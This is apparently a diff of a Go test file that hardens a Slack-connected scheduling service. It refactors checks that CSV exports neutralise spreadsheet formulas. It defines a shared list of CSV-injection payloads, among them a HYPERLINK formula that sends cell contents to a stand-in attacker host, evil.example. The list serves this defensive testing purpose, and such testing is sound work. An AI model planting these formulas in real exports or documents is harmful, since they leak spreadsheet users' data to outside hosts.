@@ -13,7 +13,6 @@ import (
 	"net/http"
 	"net/http/cookiejar"
 	"net/http/httptest"
-	"net/url"
 	"os"
 	"os/exec"
 	"path/filepath"
@@ -40,8 +39,7 @@ func hardPress(t *testing.T, addr, user, channel, action, value string) int {
 	payload := fmt.Sprintf(`{"type":"block_actions","user":{"id":%q},"channel":{"id":%q},"trigger_id":"hard-%d",
 		"actions":[{"type":"button","action_id":%q,"block_id":"b","value":%q,"action_ts":"1"}]}`,
 		user, channel, time.Now().UnixNano(), action, value)
-	form := url.Values{"payload": {payload}}.Encode()
-	code, _ := postSigned(t, http.DefaultClient, "http://"+addr+"/slack/interactivity", form, signed(form, time.Now()))
+	code, _ := postInteraction(t, addr, payload, 0)
 	return code
 }
 
@@ -118,7 +116,7 @@ func TestBinHardeningCSVExport(t *testing.T) {
 	addr := freePort(t)
 	cfgPath, cfg := dlvConfig(t, dir, addr, fake.APIURL(), "")
 	st := openTestStore(t, cfg.Database)
-	hostile := []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+SUM(1,2)", "-2+3", "@cmd", "\t=1+2"}
+	hostile := hardFormulas
 	now := time.Now().UTC()
 	err := st.Update(context.Background(), func(tx store.Tx) error {
 		for i, h := range hostile {
@@ -150,13 +148,7 @@ func TestBinHardeningCSVExport(t *testing.T) {
 			t.Errorf("the export lacks %q neutralised:\n%s", h, csv)
 		}
 	}
-	for _, line := range strings.Split(csv, "\n") {
-		for _, cell := range strings.Split(line, ",") {
-			if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+-@\t", rune(c[0])) {
-				t.Errorf("a cell a spreadsheet would run: %q in %q", cell, line)
-			}
-		}
-	}
+	hardNoFormulaCells(t, csv)
 }
 
 // /healthz checks a write: with another connection holding SQLite's write
@@ -182,29 +174,22 @@ func TestBinHardeningHealthzNamesTheFailingWrite(t *testing.T) {
 	if err != nil {
 		t.Fatal(err)
 	}
-	b := new(strings.Builder)
-	fmt.Fprint(b, readAll(resp))
-	if resp.StatusCode != http.StatusServiceUnavailable || !strings.Contains(b.String(), "database write: failed") || !strings.Contains(b.String(), "database read: ok") {
-		t.Errorf("healthz with the write lock held: %d %q", resp.StatusCode, b.String())
+	body := readAll(resp)
+	if resp.StatusCode != http.StatusServiceUnavailable || !strings.Contains(body, "database write: failed") || !strings.Contains(body, "database read: ok") {
+		t.Errorf("healthz with the write lock held: %d %q", resp.StatusCode, body)
 	}
 	if _, err := conn.ExecContext(context.Background(), "ROLLBACK"); err != nil {
 		t.Fatal(err)
 	}
 	waitHealthy(t, "http://"+p.addr)
-	t.Logf("healthz with the write lock held: %d %q", resp.StatusCode, b.String())
+	t.Logf("healthz with the write lock held: %d %q", resp.StatusCode, body)
 }
 
+// readAll reads and closes a response's body.
 func readAll(resp *http.Response) string {
 	defer resp.Body.Close()
-	var sb strings.Builder
-	buf := make([]byte, 4096)
-	for {
-		n, err := resp.Body.Read(buf)
-		sb.Write(buf[:n])
-		if err != nil {
-			return sb.String()
-		}
-	}
+	b, _ := io.ReadAll(resp.Body)
+	return string(b)
 }
 
 // The creator's note about an announcement Slack refused for good carries
@@ -219,15 +204,11 @@ func TestBinHardeningRetryButton(t *testing.T) {
 	addr := freePort(t)
 	// With no staff list everyone is staff, and staff may retry anything:
 	// only the creator is.
-	cfgPath := writeConfig(t, dir, addr, fake.APIURL(), "staff: [\"U9BOSS\"]\n")
-	cfg, err := LoadConfig(cfgPath, true, func(string) string { return "" })
-	if err != nil {
-		t.Fatal(err)
-	}
+	cfgPath, cfg := writeLoadedConfig(t, dir, addr, fake.APIURL(), "staff: [\"U9BOSS\"]\n")
 	fake.FailChannel("CGONE", "channel_not_found")
 	dlvSchedule(t, cfg, &store.Session{Title: "Gone", Kind: "webinar", Start: time.Now().Add(72 * time.Hour), Duration: time.Hour,
 		TZ: "UTC", Channel: "CGONE", Creator: "U9BOSS"})
-	log := &dlvLog{}
+	log := &syncBuffer{}
 	p := dlvServe(t, bin, cfgPath, addr, log)
 	note := waitCall(t, fake, "chat.postMessage", "the creator's note", func(c slackfake.Call) bool {
 		return c.Form.Get("channel") == "DU9BOSS" && c.Error == "" && strings.Contains(c.Form.Get("blocks"), "retry_delivery")
@@ -354,7 +335,7 @@ func TestBinHardeningSocketModeAcksAtOnce(t *testing.T) {
 	if err := os.WriteFile(cfgPath, []byte(cfg), 0o600); err != nil {
 		t.Fatal(err)
 	}
-	log := &dlvLog{}
+	log := &syncBuffer{}
 	p := dlvServe(t, bin, cfgPath, addr, log)
 	t.Cleanup(func() { // after the binary has stopped (cleanups run last first)
 		replies.Close()
@@ -460,7 +441,7 @@ func TestBinHardeningReportCSV(t *testing.T) {
   session_key: "a-session-key-of-at-least-32-characters"
 `)
 	st := openTestStore(t, databaseOf(t, cfgPath))
-	hostile := []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+SUM(1,2)", "-2+3", "@cmd", "\t=1+2"}
+	hostile := hardFormulas
 	now := time.Now().UTC()
 	err := st.Update(context.Background(), func(tx store.Tx) error {
 		for _, h := range hostile {
@@ -496,6 +477,17 @@ func TestBinHardeningReportCSV(t *testing.T) {
 			t.Errorf("/report.csv lacks the partner %q neutralised:\n%s", h, csv)
 		}
 	}
+	hardNoFormulaCells(t, csv)
+}
+
+// hardFormulas are texts a spreadsheet would run were they written as
+// they are.
+var hardFormulas = []string{`=HYPERLINK("https://evil.example/?"&A1,"click")`, "+SUM(1,2)", "-2+3", "@cmd", "\t=1+2"}
+
+// hardNoFormulaCells fails the test for every cell of csv a spreadsheet
+// would run.
+func hardNoFormulaCells(t *testing.T, csv string) {
+	t.Helper()
 	for _, line := range strings.Split(csv, "\n") {
 		for _, cell := range strings.Split(line, ",") {
 			if c := strings.TrimPrefix(cell, `"`); c != "" && strings.ContainsRune("=+-@\t", rune(c[0])) {
